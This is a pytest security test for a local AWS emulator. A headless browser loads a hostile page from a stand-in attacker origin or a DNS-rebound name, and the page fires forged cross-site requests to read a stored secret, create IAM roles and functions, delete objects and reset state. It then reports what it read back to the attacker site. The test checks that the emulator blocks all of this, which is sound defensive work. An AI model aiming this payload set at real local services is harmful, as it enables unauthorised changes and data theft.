"""A page in a real browser attacks localaws: from another site, from the same site's other port, and by rebinding.

Everything that a page can send is tried: nothing of it may change anything here, and no answer may be read there.
`ATTACKS=all` tries it from every place; otherwise from one, and by rebinding.
"""

import http.client
import http.server
import json
import os
import shutil
import subprocess
import threading
from urllib.parse import urlsplit

import pytest

from localaws import process
from localaws.conftest import TRUST, Server, signed

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
PATIENCE = 300
KEY = "111111111111"
FROM = ("cross-site", "same-site", "rebound") if os.environ.get("ATTACKS") == "all" else ("cross-site", "rebound")

PAGE = """<!doctype html><meta charset=utf-8><body><script>
const attacks = %s, target = %s, found = [];
const wait = (ms) => new Promise(done => setTimeout(done, ms));
async function one(a) {
  const url = target + a.path;
  if (a.kind === 'form') {
    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + found.length});
    const form = Object.assign(document.createElement('form'),
      {method: a.method, action: url, target: frame.name, enctype: a.type || 'application/x-www-form-urlencoded'});
    for (const [name, value] of Object.entries(a.fields || {}))
      form.append(Object.assign(document.createElement('input'), {name, value}));
    document.body.append(frame, form);
    const loaded = new Promise(done => { frame.onload = done; });
    form.submit();
    await Promise.race([loaded, wait(1500)]);
    try { return frame.contentDocument ? 'frame: ' + frame.contentDocument.body.textContent : 'closed'; }
    catch (error) { return 'closed'; }
  }
  if (a.kind === 'socket') {
    return await new Promise(done => {
      const socket = new WebSocket(new URL(url, location.href).href.replace('http', 'ws'));
      socket.onopen = () => done('opened');
      socket.onerror = () => done('closed');
    });
  }
  if (a.kind === 'element') {
    return await new Promise(done => {
      const made = document.createElement(a.tag);
      made.onload = () => done(a.tag === 'iframe' ? 'closed' : 'loaded');
      made.onerror = () => done('closed');
      if (a.tag === 'link') { made.rel = 'stylesheet'; made.href = url; } else made.src = url;
      document.body.append(made);
      setTimeout(() => done('closed'), 1500);
    });
  }
  if (a.kind === 'beacon') { navigator.sendBeacon(url, a.body || ''); await wait(100); return 'closed'; }
  try {
    const answer = await fetch(url, {method: a.method, mode: a.mode, headers: a.headers, body: a.body,
      credentials: a.credentials || 'omit', redirect: 'manual'});
    if (answer.type === 'opaque' || answer.type === 'opaqueredirect') return 'closed';
    return answer.status + ' ' + await answer.text();
  } catch (error) { return 'closed'; }
}
(async () => {
  for (const a of attacks) found.push(await one(a));
  await fetch('/the-report', {method: 'POST', body: JSON.stringify(found)});
})();
</script>"""


def attacks():
    """What a page tries: 46 requests, by all that a page has to send with."""
    credential = f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={KEY}"
    when = signed("s3", KEY)["X-Amz-Date"]

    def query(service):
        return (
            f"{credential}/{when[:8]}/us-east-1/{service}/aws4_request&X-Amz-Date={when}&X-Amz-Expires=600"
            f"&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
        )

    role = "Action=CreateRole&Version=2010-05-08&RoleName=by-a-page&AssumeRolePolicyDocument={}"
    function = json.dumps(
        {"FunctionName": "by-a-page", "Runtime": "python3.11", "Handler": "a.b", "Role": "x", "Code": {}}
    )
    clock = json.dumps({"seconds": 864000})
    text, form = {"Content-Type": "text/plain"}, {"Content-Type": "application/x-www-form-urlencoded"}
    reads = [
        f"/kept/a?{query('s3')}", f"/kept?{query('s3')}", f"/?{query('s3')}", "/kept/a", "/_localaws/health",
        "/_localaws/status", "/_ministack/health", "/_ministack/config", "/v2/", "/health",
        f"/?Action=ListRoles&Version=2010-05-08&{query('iam')}", f"/2015-03-31/functions?{query('lambda')}",
    ]  # fmt: skip
    writes = [
        ("PUT", f"/by-a-page?{query('s3')}", {}, ""),
        ("PUT", f"/kept/a?{query('s3')}", {}, "changed"),
        ("DELETE", f"/kept/a?{query('s3')}", {}, None),
        ("POST", f"/?{query('iam')}", form, role),
        ("POST", "/", form, role),
        ("POST", f"/2015-03-31/functions?{query('lambda')}", text, function),
        ("POST", f"/2015-03-31/functions/kept/invocations?{query('lambda')}", text, "{}"),
        ("POST", "/_localaws/clock", text, clock),
        ("POST", "/_ministack/reset", text, ""),
        ("POST", "/", {"Content-Type": "text/plain", "X-Amz-Target": "SageMaker.CreateModel"}, "{}"),
    ]
    found = []
    found += [{"method": "GET", "mode": mode, "path": path} for path in reads for mode in ("cors", "no-cors")]
    found += [
        {"method": method, "mode": "cors", "path": path, "headers": headers, **({} if body is None else {"body": body})}
        for method, path, headers, body in writes
    ]
    found += [
        {"method": "POST", "mode": "no-cors", "path": path, "headers": headers, "body": body}
        for method, path, headers, body in writes
        if method == "POST" and "X-Amz-Target" not in headers
    ]
    fields = dict(pair.split("=") for pair in role.split("&"))
    found += [
        {"kind": "form", "method": "POST", "path": f"/?{query('iam')}", "fields": fields},
        {"kind": "form", "method": "POST", "path": "/_ministack/reset"},
        {
            "kind": "form",
            "method": "POST",
            "path": "/_localaws/clock",
            "type": "text/plain",
            "fields": {clock[:-1]: "}"},
        },
        {"kind": "form", "method": "POST", "path": "/kept", "type": "multipart/form-data", "fields": {"key": "b"}},
        {"kind": "form", "method": "GET", "path": "/kept/a"},
        {"kind": "beacon", "path": "/_ministack/reset"},
        {"kind": "beacon", "path": "/_localaws/clock", "body": clock},
        {"kind": "socket", "path": "/"},
        {"kind": "socket", "path": "/mqtt"},
    ]
    found += [
        {"kind": "element", "tag": tag, "path": f"/kept/script.js?{query('s3')}"}
        for tag in ("script", "img", "iframe", "link")
    ]
    return found


class Site(http.server.ThreadingHTTPServer):
    """The attacker's site: one page, and the page's report.

    With `forward`, everything else is sent on as it is: so it goes when the page's own name leads to localaws of a
    sudden, whose requests then are of the page's own origin.
    """

    def __init__(self, target, forward=None):
        self.forward = forward
        self.page = (PAGE % (json.dumps(attacks()), json.dumps(target))).encode()
        self.report, self.reported = None, threading.Event()
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(http.server.BaseHTTPRequestHandler):
    def _answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/the-page":
            self._say(200, self.server.page)
        elif self.path == "/the-report":
            self.server.report = json.loads(body)
            self._say(200, b"")
            self.server.reported.set()
        elif self.server.forward:
            line = http.client.HTTPConnection(urlsplit(self.server.forward).netloc, timeout=PATIENCE)
            line.request(self.command, self.path, body, dict(self.headers))
            answer = line.getresponse()
            self._say(answer.status, answer.read())
            line.close()
        else:
            self._say(404, b"")

    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = _answer

    def _say(self, status, content):
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_):
        """Say nothing."""


@pytest.fixture(scope="module")
def browser():
    """The path of a browser."""
    found = os.environ.get("BATON_CHROMIUM") or next((path for name in NAMES if (path := shutil.which(name))), None)
    if not found:
        pytest.skip(f"no browser: install one of {', '.join(NAMES)}")
    return found


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """A localaws with an object, a script and a role in it."""
    server = Server(tmp_path_factory.mktemp("attacked"))
    account = server.account(KEY)
    account.bucket("kept")
    account.client("s3").put_object(Bucket="kept", Key="a", Body=b"secret", ContentType="text/html")
    account.client("s3").put_object(Bucket="kept", Key="script.js", Body=b"1", ContentType="text/javascript")
    account.role("kept", trust=TRUST)
    yield server
    server.close()


def held(server):
    """What is in the account; the clock without its seconds."""
    account = server.account(KEY)
    s3 = account.client("s3")
    return {
        "buckets": [item["Name"] for item in s3.list_buckets()["Buckets"]],
        "objects": [item["Key"] for item in s3.list_objects_v2(Bucket="kept")["Contents"]],
        "content": s3.get_object(Bucket="kept", Key="a")["Body"].read(),
        "roles": [item["RoleName"] for item in account.client("iam").list_roles()["Roles"]],
        "functions": account.client("lambda").list_functions()["Functions"],
        "models": account.client("sagemaker").list_models()["Models"],
        "day": process.status(server.state, server.address)["clock"][:10],
    }


@pytest.mark.parametrize("place", FROM)
def test_no_page_reads_or_changes_anything(server, browser, tmp_path, place):
    port = urlsplit(server.address).port
    target, forward = f"http://127.0.0.1:{port}", None
    if place == "rebound":
        # The name was the page's own when it was loaded; now it leads to this machine's localaws.
        target, forward = "", server.address
    before = held(server)
    with Site(target, forward) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        host = {"cross-site": "attacker.example", "same-site": "127.0.0.1", "rebound": "rebound.example"}[place]
        command = [
            browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage",
            "--no-proxy-server", f"--user-data-dir={tmp_path / 'profile'}",
            "--host-resolver-rules=MAP *.example 127.0.0.1",
            f"http://{host}:{site.server_port}/the-page",
        ]  # fmt: skip
        with (tmp_path / "log").open("wb") as log:
            running = subprocess.Popen(command, stdout=log, stderr=log)
        try:
            assert site.reported.wait(PATIENCE), (tmp_path / "log").read_text(errors="replace")[-2000:]
        finally:
            running.terminate()
            running.wait()
            site.shutdown()
    assert held(server) == before
    tried = attacks()
    open_ = [(tried[number], said) for number, said in enumerate(site.report) if not _is_closed(said)]
    assert not open_
    assert len(site.report) == len(tried) >= 40
    print(f"{place}: {len(tried)} tried, {len(tried)} held")


def _is_closed(said):
    """Whether a page got nothing: no answer, or one whose text says that pages get none."""
    return said == "closed" or ("secret" not in said and ("answers no web page" in said or "isn't a name of" in said))
